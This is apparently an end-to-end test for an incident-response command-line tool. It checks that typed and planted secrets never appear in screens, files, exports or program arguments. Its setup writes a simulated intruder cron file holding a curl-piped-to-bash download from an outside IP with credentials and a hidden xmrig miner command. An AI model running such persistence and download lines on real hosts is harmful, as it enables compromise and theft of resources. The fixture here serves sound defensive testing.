import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { TRANSCRIPT_FORMATS } from '../../src/cli/hand-over/transcript-formats.ts';
import { ownCommand } from '../../src/cli/surroundings.ts';
import { run } from '../end-to-end/program.ts';
import { report } from '../support/length.ts';
import { type Namespace, openNamespace } from '../support/namespace.ts';
import { KEYS, type PtyProgram, startPty } from '../support/pty.ts';

/**
 * Secrets from one end to the other: one that is typed into a screen and, after a resume, into line mode, and some that an intruder
 * has left on the host. Looked for in all that went to the terminals, in every file that was written, in every export, and in the
 * arguments of every program that was started (strace(1), execve).
 */
const TYPED = 'Typed-S3cret-9f2K';
const PLANTED = {
  token: 'ghp_Pl4nt3dT0kenAbCdEfGhIjKlMnOpQrStUv',
  password: 'Pl4nted-Pa55word-x7',
  key: 'wJalrXUtnFEMIK7MDENGbPxRfiCYPLANTED2keyz',
};
const SECRETS = [TYPED, ...Object.values(PLANTED)];

const BOOK = `name: secrets
title: Secrets
platform: any
inputs:
  token:
    type: string
    secret: true
    required: true
steps:
  - name: Use
    id: use
    why: x
    env:
      TOKEN: \${{ inputs.token }}
    run: echo "the token is $TOKEN"; printf %s "$TOKEN" >&2
  - name: Look
    id: look
    why: x
    uses: triage
  - name: Keep
    id: keep
    why: x
    uses: snapshot
    with:
      paths: [/etc/cron.d]
  - name: Again
    id: again
    why: x
    env:
      TOKEN: \${{ inputs.token }}
    run: echo "once more $TOKEN"
`;

let folder: string;
let namespace: Namespace;
beforeAll(async () => {
  run(['--version']);
  folder = mkdtempSync('/var/tmp/tourniquet-secrets-');
  writeFileSync(join(folder, 'secrets.yaml'), BOOK);
  namespace = await openNamespace(`
mount -t tmpfs tmpfs /etc/cron.d
mkdir -p ${folder}/host /var/lib/tourniquet && mount --bind ${folder}/host /var/lib/tourniquet
echo '* * * * * root curl -s -u admin:${PLANTED.password} -H "Authorization: token ${PLANTED.token}" http://203.0.113.9/x.sh | bash' >/etc/cron.d/leak
echo '* * * * * root AWS_SECRET_ACCESS_KEY=${PLANTED.key} /tmp/.x/xmrig -o pool.example:3333 --pass ${PLANTED.password}' >>/etc/cron.d/leak`);
}, 60_000);
afterAll(async () => {
  await namespace.end();
  rmSync(folder, { recursive: true, force: true });
});

/** In a terminal, in the namespace, with every program noted that it starts. */
function start(log: string, ...args: string[]): PtyProgram {
  return startPty(
    [
      ...['nsenter', '--target', String(namespace.pid), '--mount', '--net', '--'],
      // Alone: what else runs on the machine is not to be met.
      ...['unshare', '--pid', '--fork', '--kill-child', '--mount-proc', '--'],
      ...[
        'strace',
        '-f',
        '-qq',
        '--seccomp-bpf',
        '-e',
        'trace=execve',
        '-s',
        '65536',
        '-o',
        join(folder, log),
      ],
      ...ownCommand('--incident-dir', join(folder, 'incidents'), ...args),
    ],
    { columns: 110, rows: 40 },
  );
}

function filesBelow(at: string): string[] {
  return readdirSync(at, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

describe('a secret', () => {
  test('appears nowhere: not on a screen, not in a file of ours, not in an export, not among the arguments of a program', async () => {
    const first = start('first.log', 'run', join(folder, 'secrets.yaml'));
    await first.waitFor('token (needed)', 60_000);
    first.press(TYPED);
    await first.until('dots', () => first.isRead());
    first.press(KEYS.enter);
    await first.waitFor(/Use +to approve/, 60_000);
    // Whoever presses at once is asked for it once more: nobody has read so quickly.
    while (/Use +to approve/.test(first.text())) {
      first.press(KEYS.enter);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    }
    await first.waitFor(/Use +1 held/, 60_000);
    await first.waitFor(/Look +\d+ found/, 120_000);
    first.press('q');
    await first.waitFor('Leave?', 20_000);
    first.press('l');
    await first.waitExit(60_000);

    const [id = ''] = readdirSync(join(folder, 'incidents')).filter((name) => !name.startsWith('.'));
    const second = start('second.log', 'resume', id, '--plain');
    await second.waitFor('token >', 120_000);
    second.press(`${TYPED}\r`);
    // Each question is answered with "run" until the last step is through.
    const asked = () => second.sent().split('(q)uit (?) > ').length - 1;
    const isThrough = () => second.sent().includes('Again: finished');
    for (let answered = 0; !isThrough(); ) {
      await second.until('a question, or the end', () => asked() > answered || isThrough(), 90_000);
      if (asked() === answered) break;
      answered = asked();
      second.press('r\r');
    }
    second.press('q\r');
    await second.waitExit(60_000);

    // The steps did use it: what they printed is there, without it.
    const printed = readFileSync(join(folder, 'incidents', id, 'output/use.1.1.log'), 'utf8');
    expect(printed).toMatch(/^the token is \S/);
    const told: [string, string][] = [
      ['the screens', first.sent()],
      ['line mode', second.sent()],
    ];
    for (const name of ['first.log', 'second.log'])
      told.push([`arguments (${name})`, readFileSync(join(folder, name), 'latin1')]);
    const tourniquet = (...args: string[]) =>
      run(['--incident-dir', join(folder, 'incidents'), ...args]).stdout;
    for (const format of Object.keys(TRANSCRIPT_FORMATS))
      told.push([`transcript as ${format}`, tourniquet('transcript', id, '--format', format)]);
    told.push(['show', tourniquet('show', id, '--json')], ['report', tourniquet('report', id)]);
    const bundle = join(folder, 'bundle.tar.zst');
    expect(
      run(['--incident-dir', join(folder, 'incidents'), 'bundle', id, '--no-sign', '-o', bundle]).code,
    ).toBe(0);
    const unpacked = join(folder, 'unpacked');
    execFileSync('mkdir', [unpacked]);
    execFileSync('tar', ['--zstd', '-xf', bundle, '-C', unpacked]);
    const written = [
      ...filesBelow(join(folder, 'incidents', id)),
      ...filesBelow(join(folder, 'host')),
      ...filesBelow(unpacked),
    ];
    // What was taken of the host is there as it was: that is what evidence is. Its list is ours.
    const ours = written.filter((path) => !/files\.tar\.zst/.test(path));
    expect(ours.some((path) => path.includes('manifest.jsonl'))).toBe(true);
    for (const path of ours) told.push([path, readFileSync(path, 'latin1')]);

    expect(told.some(([, text]) => text.includes('(secret'))).toBe(true);
    for (const [where, text] of told)
      for (const secret of SECRETS) expect(text.includes(secret), `${secret} in ${where}`).toBe(false);
    // They were met: what could not have been found proves nothing.
    expect(first.sent() + second.sent()).toContain('/etc/cron.d/leak');
    expect(readFileSync(join(folder, 'second.log'), 'latin1')).toContain('execve(');
    report({
      suite: 'secrets on screens, in files, exports and arguments',
      runs: told.length,
      faults: SECRETS.length,
      lost: 0,
      escaped: 0,
    });
  }, 600_000);
});
